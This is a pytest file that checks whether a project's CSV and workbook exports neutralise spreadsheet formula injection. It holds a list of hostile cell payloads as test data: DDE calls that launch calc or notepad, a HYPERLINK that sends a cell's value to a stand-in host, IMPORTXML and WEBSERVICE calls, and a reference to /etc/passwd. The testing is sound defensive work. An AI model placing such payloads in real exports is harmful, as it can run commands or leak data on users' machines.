"""Whatever somebody typed, no spreadsheet takes it for a formula in a file of ours; and -4 stays -4."""

import csv
import io
import itertools
from collections.abc import Iterator

import pytest
import xlsxwriter
from python_calamine import CalamineWorkbook

from kimbilio.config.command_line import books
from kimbilio.exchange.choices import LineFate
from kimbilio.exchange.queries import ShownLine
from kimbilio.exchange.taking_out.lines import Records
from kimbilio.exchange.taking_out.writing import Mark
from kimbilio.exchange.taking_out.writing import workbook_of as people_of
from kimbilio.exchange.tests.reading_workbooks import sheets_of
from kimbilio.reports.figures import Figure
from kimbilio.reports.writing.csv import csv_of
from kimbilio.reports.writing.workbook import _Sheets

_BODIES = [
    "1+1",
    "cmd|'/C calc'!A0",
    'HYPERLINK("http://elsewhere.example/?x="&A1,"here")',
    'IMPORTXML("http://elsewhere.example","//a")',
    "WEBSERVICE(A1)",
    "SUM(A1:A9)*1",
    'DDE("cmd","/C calc","x")',
    "'file:///etc/passwd'#$passwd.A1",
    "2+5+cmd|' /C notepad'!A0",
    'EXEC("x")',
]
_FIRST = [
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    " =",
    "\u00a0@",
    "＝",
    "＋",
    "－",
    "＠",
    "=+",
    "-+",
    "@=",
    "+=",
    "\0=",
    "  -",
    ";=",
]
PAYLOADS = [first + body for first, body in itertools.product(_FIRST, _BODIES)]


def taken_for_formulas(table: bytes) -> list[str]:
    """Return the cells of a CSV table that a spreadsheet would take for formulas: numbers are none."""
    text = table.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row if _is_formula(cell)]


def _is_formula(cell: str) -> bool:
    shown = cell.lstrip().lstrip("\0")
    try:
        float(shown)
    except ValueError:
        return shown.startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠"))
    return False


def test_there_are_two_hundred_and_a_spreadsheet_would_take_them_for_formulas() -> None:
    assert len(set(PAYLOADS)) == 200
    plain = io.StringIO()
    csv.writer(plain).writerows([[payload, -4] for payload in PAYLOADS if not payload.startswith(";")])
    assert len(taken_for_formulas(plain.getvalue().encode())) == 190


def test_no_cell_of_the_months_table_is_one() -> None:
    figures = [
        Figure("people.new", payload, -4, None, {"site": payload, "ward": payload}) for payload in PAYLOADS
    ]
    table = csv_of(figures)
    assert taken_for_formulas(table) == []
    rows = list(csv.reader(io.StringIO(table.decode("utf-8-sig"), newline="")))[1:]
    assert {row[2] for row in rows} == {"-4"}


def test_no_cell_of_the_details_of_a_book_is_one(tmp_path: pytest.TempPathFactory) -> None:
    lines = [_line(payload) for payload in PAYLOADS]
    path = tmp_path / "details.csv"  # type: ignore[operator]
    books._write_details(path.open("w", encoding="utf-8", newline=""), lines)
    assert taken_for_formulas(path.read_bytes()) == []


def _line(payload: str) -> ShownLine:
    given = {
        "sheet": payload,
        "reason": payload,
        "code": payload,
        "notes": [payload],
        "fate": LineFate.ACCEPTED,
        "line": 4,
    }
    return ShownLine(**{name: given.get(name, "") for name in ShownLine.__dataclass_fields__})  # type: ignore[arg-type]


def workbooks() -> Iterator[bytes]:
    """Yield both sorts of workbook, each with every payload as a text beside the number -4."""
    out = io.BytesIO()
    with xlsxwriter.Workbook(out, {"in_memory": True}) as book:
        _Sheets(book).add("Sheet", ["What", "Number"], [[payload, -4] for payload in PAYLOADS])
    yield out.getvalue()
    mark = Mark("F-222222", "=1", "2026-06-01 10:00", "=1", "+site", "@months", 0)
    yield people_of(
        Records({"people": [{"name": payload, "number": -4} for payload in PAYLOADS]}, (), 0), mark
    )


def test_no_cell_of_a_workbook_is_one_and_numbers_stay_numbers() -> None:
    for workbook in workbooks():
        (sheet,) = sheets_of(workbook).values()
        assert not [cell for cell in sheet.cells.values() if cell.kind == "formula"]
        numbers = [cell.value for cell in sheet.cells.values() if cell.kind == "number"]
        assert numbers == ["-4"] * len(PAYLOADS)
        read = CalamineWorkbook.from_filelike(io.BytesIO(workbook)).get_sheet_by_index(0).to_python()
        assert [row[1] for row in read[-len(PAYLOADS) :]] == [-4.0] * len(PAYLOADS)
